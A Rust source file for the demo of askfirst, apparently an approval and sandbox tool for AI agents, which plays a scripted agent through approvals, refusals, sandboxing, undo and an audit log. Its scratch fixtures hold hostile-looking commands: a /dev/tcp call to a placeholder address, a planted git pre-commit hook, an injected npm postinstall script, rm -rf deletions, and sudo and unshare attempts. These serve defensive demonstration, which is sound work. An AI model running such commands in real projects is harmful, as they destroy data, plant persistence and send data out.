//! `demo`: runs a scripted agent in a scratch folder, with real tools, a real prompt and a real audit log.

use std::path::{Path, PathBuf};

use anyhow::Context;
use askfirst::ports::Clock;
use askfirst::{ApprovalContext, Outcome};
use askfirst_config::{Config, Places};
use askfirst_display::Choice;
use askfirst_runtime::Session;
use askfirst_runtime::clock::SystemClock;
use askfirst_runtime::ledger::SessionId;
use askfirst_runtime::rehearsal::UndoStore;
use serde_json::{Value, json};

use crate::args::{Common, ModeFlags};
use crate::commands::undo::undo_logged;
use crate::exit::Exit;
use crate::print::{err, out, print_wrapped};
use crate::session::{FrontEnd, log_action, open, read_config_in};

const CONFIG: &str = include_str!("demo/askfirst.yaml");

/// A sentence of the agent, and the calls that it then makes together.
struct DemoStep {
    says: &'static str,
    calls: Vec<(&'static str, Value)>,
    is_undone: bool,
}

fn script() -> Vec<DemoStep> {
    let one = |says, tool, args| DemoStep { says, calls: vec![(tool, args)], is_undone: false };
    let shell = |says, command: &str| one(says, "shell", json!({"command": command, "cwd": "notes"}));
    let script = |says, command: &str| one(says, "shell", json!({"command": command, "cwd": "app"}));
    vec![
        one("Let me see which notes there are.", "list_files", json!({"path": "notes:"})),
        shell("A command that only reads. It runs without asking.", "grep -c . plan.md | head -3"),
        one(
            "I edit a line of the plan. You see the diff before I change the file.",
            "edit_file",
            json!({"path": "notes:plan.md", "old": "then act", "new": "then act, then look again"}),
        ),
        one(
            "A new file. You see all of it.",
            "write_file",
            json!({"path": "notes:greet.py", "content": "def greet(name):\n    return f\"Hello, {name}\"\n"}),
        ),
        shell("A command that writes. Press `s` to approve it for this session.", "touch today.md"),
        shell("The same command again. If you pressed `s`, it runs without asking.", "touch today.md"),
        DemoStep {
            says: "Two copies at once: one prompt with a list.",
            calls: vec![
                ("copy_file", json!({"path": "notes:plan.md", "to": "notes:plan-1.md"})),
                ("copy_file", json!({"path": "notes:plan.md", "to": "notes:plan-2.md"})),
            ],
            is_undone: false,
        },
        shell(
            "A riskier command: you see every program. Press `r` to refuse with a reason.",
            "ls *.md | wc -l && rm -rf old",
        ),
        script(
            "A script. It runs on a copy first. Its changes need no approval, so they are kept.",
            "sh greet.sh",
        ),
        script(
            "This script edits a file that can run programs. You see what it changed before it counts.",
            "sh build.sh",
        ),
        script(
            "This script plants a git hook. No one is asked: askfirst discards what it did.",
            "sh hook.sh",
        ),
        script(
            "This script phones home. It ran without a network. You see that it tried to reach one.",
            "sh phone.sh",
        ),
        DemoStep {
            is_undone: true,
            ..script(
                "A script that removes the sources. Its changes are kept, and then undone.",
                "sh clean.sh",
            )
        },
        shell("The config denies this command, even inside another one.", "env -S 'sudo ls'"),
        one("A file outside every folder that I may use.", "read_file", json!({"path": "secret.txt"})),
        shell("If you approve this, the sandbox stops it: it creates a namespace.", "unshare --user true"),
        one(
            "No one can undo this, so you type a word instead of a key.",
            "send_letter",
            json!({"to": "ada@example.com", "text": "All done."}),
        ),
    ]
}

/// Runs the script.
pub fn demo(common: &Common, mode: ModeFlags) -> anyhow::Result<Exit> {
    let scratch = Scratch::new().context("cannot create a scratch folder")?;
    let state = scratch.0.join("state");
    let places = Places { state: state.clone(), ..Places::from_env() };
    let config = read_config_in(Some(scratch.0.join("askfirst.yaml")), scratch.0.clone(), places.clone())?;
    let about = "A scripted agent works on notes in a scratch folder. Every call goes through askfirst, and programs \
        run in an OS sandbox if this machine has one.";
    print_wrapped("", about);
    let keys = "y yes, n no, s yes for this session, r no with a reason, ? more keys and details. Keys count once \
        the last line says `ready:`.";
    print_wrapped("Keys: ", keys);
    // The scratch folder is no project.
    let front_end = FrontEnd { name: "demo", withheld: &[Choice::Always] };
    let session = open(&front_end, Session::builder(config), common, mode, &state, |_, terminal| terminal)?;
    let mut exit = Exit::Done;
    for step in script() {
        if session.tools.controller().is_stopped() {
            break;
        }
        exit = exit.max(play(&session, &step));
        if step.is_undone {
            undo_last(&session.config, &places, &scratch.0);
        }
    }
    out("");
    out("Decisions and results, from the audit log:");
    if let Some(ledger) = &session.ledger {
        crate::commands::log::print_all(ledger.path())?;
    }
    out("");
    let next = "run askfirst init to write a config for your own folder (see docs/guide/first-config.md). Test it with \
        askfirst explain TOOL --args JSON, then send your agent's calls to askfirst run -";
    print_wrapped("Next: ", next);
    Ok(exit)
}

fn play(session: &Session, step: &DemoStep) -> Exit {
    out("");
    print_wrapped("agent: ", step.says);
    let batch = if step.calls.len() > 1 { Some("demo") } else { None };
    let calls = step.calls.iter().map(|(tool, args)| {
        let call = ApprovalContext::new(*tool, args.as_object().cloned().unwrap_or_default());
        let call = call.with_metadata("caller", "the demo's agent");
        batch.map_or(call.clone(), |batch| call.with_metadata("batch_id", batch))
    });
    let outcomes = session.tools.call_many_sync(calls.collect());
    askfirst_terminal::wait_until_released();
    let mut exit = Exit::Done;
    for ((tool, _), outcome) in step.calls.iter().zip(&outcomes) {
        exit = exit.max(print_outcome(tool, outcome));
    }
    exit
}

/// Undoes the last change in the folder of the demo, as `askfirst undo` does.
fn undo_last(config: &Config, places: &Places, folder: &Path) {
    let undo = || {
        let store = UndoStore::open(&places.state, folder)?;
        let id = store.last()?.id;
        undo_logged(&store, &id, |entry| log_action(config, places, "demo", entry))?;
        anyhow::Ok(id)
    };
    match undo() {
        Ok(id) => print_wrapped("  undone   ", &format!("`askfirst undo {id}` restored what it removed")),
        Err(why) => print_wrapped("  kept     ", &format!("nothing was undone: {why}")),
    }
}

/// Prints one line about an outcome, and the agent's reply to a refusal. A refusal does not make the demo fail.
fn print_outcome(tool: &str, outcome: &Outcome) -> Exit {
    let (word, rest) = crate::outcome::in_words(outcome);
    let changes = match outcome {
        Outcome::Done(result) | Outcome::Failed(askfirst::ToolError::Ended { result, .. }) => {
            result.get("changes").and_then(Value::as_str)
        }
        Outcome::Denied(_) | Outcome::Failed(_) => None,
    };
    let result = match outcome {
        Outcome::Done(result) => ["stdout", "path"].iter().find_map(|key| result.get(key)),
        Outcome::Failed(askfirst::ToolError::Ended { result, .. }) => result.get("stderr"),
        Outcome::Denied(_) | Outcome::Failed(_) => None,
    };
    let result = result.and_then(Value::as_str).unwrap_or_default().trim();
    let result = result.lines().filter(|line| !line.is_empty()).collect::<Vec<_>>().join(" · ");
    let rest = if rest.is_empty() || result.is_empty() { rest } else { format!("{rest} · ") };
    print_wrapped(&format!("  {word:<8} "), format!("{tool}: {rest}{result}").trim_end_matches([' ', ':']));
    if let Some(changes) = changes {
        print_wrapped("           ", changes);
    }
    match Exit::of(outcome) {
        exit @ (Exit::NoOne | Exit::Unrecorded) => exit,
        Exit::Person => {
            out("agent: Understood, I will not do that.");
            Exit::Done
        }
        Exit::Done | Exit::ToolFailed | Exit::Usage | Exit::Policy | Exit::Child(_) => Exit::Done,
    }
}

/// A folder that is removed when the demo ends.
struct Scratch(PathBuf);

impl Scratch {
    fn new() -> std::io::Result<Self> {
        use std::os::unix::fs::DirBuilderExt;
        let session = SessionId::new(SystemClock::start().now()).to_string();
        let folder =
            std::env::temp_dir().join(format!("askfirst-{}", session.rsplit('-').next().unwrap_or_default()));
        std::fs::DirBuilder::new().mode(0o700).create(&folder)?;
        let scratch = Self(folder.canonicalize()?);
        let write = |name: &str, text: &str| std::fs::write(scratch.0.join(name), text);
        std::fs::create_dir_all(scratch.0.join("notes/old"))?;
        write("notes/plan.md", "# Plan\n\nAsk first, then act.\n")?;
        write("notes/old/list.md", "- milk\n- bread\n")?;
        std::fs::create_dir_all(scratch.0.join("app/.git/hooks"))?;
        write("app/greeting.txt", "Hello\n")?;
        write("app/package.json", "{\n  \"name\": \"greeter\",\n  \"scripts\": {}\n}\n")?;
        write("app/greet.sh", "sed -i s/Hello/Welcome/ greeting.txt && cat greeting.txt\n")?;
        write("app/build.sh", "sed -i 's/{}/{ \"postinstall\": \"sh hello.sh\" }/' package.json\n")?;
        std::fs::create_dir(scratch.0.join("app/src"))?;
        write("app/src/main.c", "int main(void) { return 0; }\n")?;
        write("app/clean.sh", "rm -rf src\n")?;
        write("app/phone.sh", "bash -c 'echo hello > /dev/tcp/192.0.2.1/80'\n")?;
        write("app/hook.sh", "echo 'sh hello.sh' > .git/hooks/pre-commit\n")?;
        write("secret.txt", "no one should read this\n")?;
        write("askfirst.yaml", CONFIG)?;
        Ok(scratch)
    }
}

impl Drop for Scratch {
    fn drop(&mut self) {
        if let Err(e) = std::fs::remove_dir_all(&self.0) {
            err(&format!("warning: cannot remove `{}`: {e}", Path::display(&self.0)));
        }
    }
}
